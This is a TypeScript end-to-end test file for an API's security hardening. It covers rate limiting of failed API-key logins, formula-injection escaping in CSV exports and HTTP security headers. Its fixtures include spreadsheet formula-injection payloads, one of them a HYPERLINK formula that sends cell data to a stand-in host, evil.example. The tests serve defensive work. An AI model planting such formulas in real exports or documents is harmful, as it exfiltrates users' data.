import pg from 'pg';
import { parse } from 'csv-parse/sync';
import { DataSource } from 'typeorm';
import { issueApiKey } from '@frictionlens/domain';
import { ClassificationRepository, createDataSource } from '@frictionlens/persistence';
import { startService, type RunningService } from '@frictionlens/platform';
import { apiService } from '../../apps/api/src/api.service-definition.js';
import { anApiKey } from '../factories/api-keys.js';
import { aModelVersion, aTaxonomy } from '../factories/classifications.js';
import { freshDatabase, type TestDatabase } from '../setup/test-env.js';

// Issue #16: made-up API keys, formula injection in CSV exports, security headers (the request
// log is request-log.e2e-spec.ts: nestjs-pino keeps one logger per process).

/** A well-formed key whose id no database holds. */
const madeUpKey = () => issueApiKey().token;

/** Counts the queries the API's own pool sends that read or write api_keys. */
function countKeyQueries(api: RunningService): { count: number } {
  const counter = { count: 0 };
  const db = api.app.get(DataSource);
  const query = db.query.bind(db);
  db.query = ((sql: string, ...rest: unknown[]) => {
    if (/api_keys/i.test(sql)) counter.count++;
    return (query as (sql: string, ...rest: unknown[]) => Promise<unknown>)(sql, ...rest);
  }) as typeof db.query;
  return counter;
}

describe('failed authentications (API_RATE_LIMIT_PER_MINUTE=40)', () => {
  let database: TestDatabase;
  let api: RunningService;
  let key: string;

  beforeAll(async () => {
    database = await freshDatabase();
    api = await startService(apiService, { PORT: '0', LOG_LEVEL: 'warn', DATABASE_URL: database.url, CUSTOMER_HASH_KEY: 'hardening-test-key-0123456789', API_RATE_LIMIT_PER_MINUTE: '40' });
    key = await anApiKey(database.url, ['metrics:read']);
  });

  afterAll(async () => {
    await api?.close();
    await database.drop();
  });

  const get = (path: string, apiKey: string, headers: Record<string, string> = {}) => fetch(`${api.url}${path}`, { headers: { 'x-api-key': apiKey, ...headers } });

  it('answers made-up keys from memory, then 429s the address, a newly created key working at once before that', async () => {
    expect((await get('/v1/models', key)).status).toBe(200); // the key set is loaded and followed from here
    const created = await anApiKey(database.url, ['metrics:read'], 'just created');
    expect((await get('/v1/models', created)).status).toBe(200);
    const keyQueries = countKeyQueries(api);

    const statuses: number[] = [];
    let lastRefusal: Response | undefined;
    for (let i = 0; i < 100; i++) {
      // A forwarded-for header is not believed (no trust proxy): the socket's address is counted.
      const response = await get('/v1/models', madeUpKey(), { 'x-forwarded-for': `198.51.100.${i}` });
      statuses.push(response.status);
      if (response.status === 429) lastRefusal = response;
      else await response.arrayBuffer();
    }

    expect(statuses.slice(0, 40)).toEqual(Array(40).fill(401));
    expect(statuses.slice(40)).toEqual(Array(60).fill(429));
    expect(keyQueries.count).toBe(0);
    const retryAfter = Number(lastRefusal!.headers.get('retry-after'));
    expect(retryAfter).toBeGreaterThan(0);
    expect(retryAfter).toBeLessThanOrEqual(60);
    expect(await lastRefusal!.json()).toMatchObject({ statusCode: 429, message: expect.stringContaining('too many failed authentications from this address') });
    // Locked out before the key is looked at: a good key from the same address waits too…
    expect((await get('/v1/models', key)).status).toBe(429);
    // …while routes without a key, and probes, still answer.
    expect((await fetch(`${api.url}/health`)).status).toBe(200);
    expect(keyQueries.count).toBe(0);
  });
});

describe('CSV exports and security headers', () => {
  let database: TestDatabase;
  let db: pg.Pool;
  let api: RunningService;
  let readKey: string;
  let adminKey: string;
  const formulas = ['=HYPERLINK("http://evil.example/?x="&A1,"Click for refund")', '+1+1', '-2+3', '@SUM(A1:A9)', '\tcmd', '\rcmd'];
  const week = 'from=2026-05-04&to=2026-05-11';

  beforeAll(async () => {
    database = await freshDatabase();
    db = new pg.Pool({ connectionString: database.url, max: 2 });
    const taxonomy = await aTaxonomy(db, [{ key: 'card_arrival' }]);
    const modelVersion = await aModelVersion(db, taxonomy);
    const dataSource = createDataSource(database.url, { logging: ['error'] });
    await dataSource.initialize();
    try {
      const classifications = [];
      for (const [i, text] of [...formulas, 'an ordinary complaint'].entries()) {
        const { rows } = await db.query<{ id: string }>(
          `INSERT INTO contacts (kind, source, source_id, occurred_at, channel, text) VALUES ('complaint', 'zendesk', $1, $2, 'email', $3) RETURNING id::text`,
          [`S-${i}`, `2026-05-05T10:00:0${i}Z`, text],
        );
        classifications.push({ contactId: rows[0]!.id, categoryKey: 'card_arrival', demandType: 'failure' as const, confidence: 0.8, top: [{ category: 'card_arrival', probability: 0.8 }], explanation: { decidedBy: 'model' }, sentiment: -0.5, effortCues: [] });
      }
      await new ClassificationRepository(dataSource).storeBatch({ modelVersionId: modelVersion, taxonomyVersionId: taxonomy }, classifications);
    } finally {
      await dataSource.destroy();
    }
    api = await startService(apiService, { PORT: '0', LOG_LEVEL: 'warn', DATABASE_URL: database.url, CUSTOMER_HASH_KEY: 'hardening-test-key-0123456789' });
    readKey = await anApiKey(database.url, ['metrics:read']);
    adminKey = await anApiKey(database.url, ['admin'], 'admin');
  });

  afterAll(async () => {
    await api?.close();
    await db.end();
    await database.drop();
  });

  it('exports a contact whose text is a formula as text, with a leading quote, in a quoted cell', async () => {
    const response = await fetch(`${api.url}/v1/contacts?${week}&format=csv`, { headers: { 'x-api-key': readKey } });
    expect(response.status).toBe(200);
    const csv = await response.text();

    const [header, ...rows] = parse(csv.replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][];
    const texts = rows.map((row) => row[header!.indexOf('text')]);
    expect(texts.sort()).toEqual([...formulas.map((f) => `'${f}`), 'an ordinary complaint'].sort());
    expect(csv).toContain('"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Click for refund"")"');
    expect(csv).not.toMatch(/(^|[\r\n,])=HYPERLINK/);
    // Numbers stay numbers, unquoted and without a quote, negative ones included.
    expect(rows.every((row) => row[header!.indexOf('confidence')] === '0.8')).toBe(true);
    expect(response.headers.get('cache-control')).toBe('no-store');
  });

  it('sends the security headers on the dashboard and the API', async () => {
    for (const path of ['/', '/v1/contacts', '/v1/metrics/steps', '/docs']) {
      const response = await fetch(`${api.url}${path}`, { headers: { 'x-api-key': readKey } });
      await response.arrayBuffer();
      const csp = response.headers.get('content-security-policy') ?? '';
      expect({ path, csp }).toEqual({ path, csp: expect.stringContaining("frame-ancestors 'none'") });
      expect(csp).toContain("script-src 'self'");
      expect(csp).not.toContain('unsafe-eval');
      expect(csp).not.toMatch(/script-src[^;]*unsafe-inline/);
      expect(response.headers.get('x-content-type-options')).toBe('nosniff');
      expect(response.headers.get('x-frame-options')).toBe('DENY');
      expect(response.headers.get('referrer-policy')).toBe('no-referrer');
      expect(response.headers.get('x-powered-by')).toBeNull();
    }
    const cacheControl = async (path: string, apiKey = readKey) => (await fetch(`${api.url}${path}`, { headers: { 'x-api-key': apiKey } })).headers.get('cache-control');
    expect(await cacheControl(`/v1/contacts?${week}`)).toBe('no-store');
    expect(await cacheControl('/v1/review-queue', adminKey)).toBe('no-store');
    expect(await cacheControl('/v1/studies', adminKey)).toBe('no-store');
    expect(await cacheControl('/v1/metrics/steps')).toBe('private, no-cache');
    expect(await cacheControl('/v1/contacts', 'not-a-key')).toBe('no-store');
  });
});
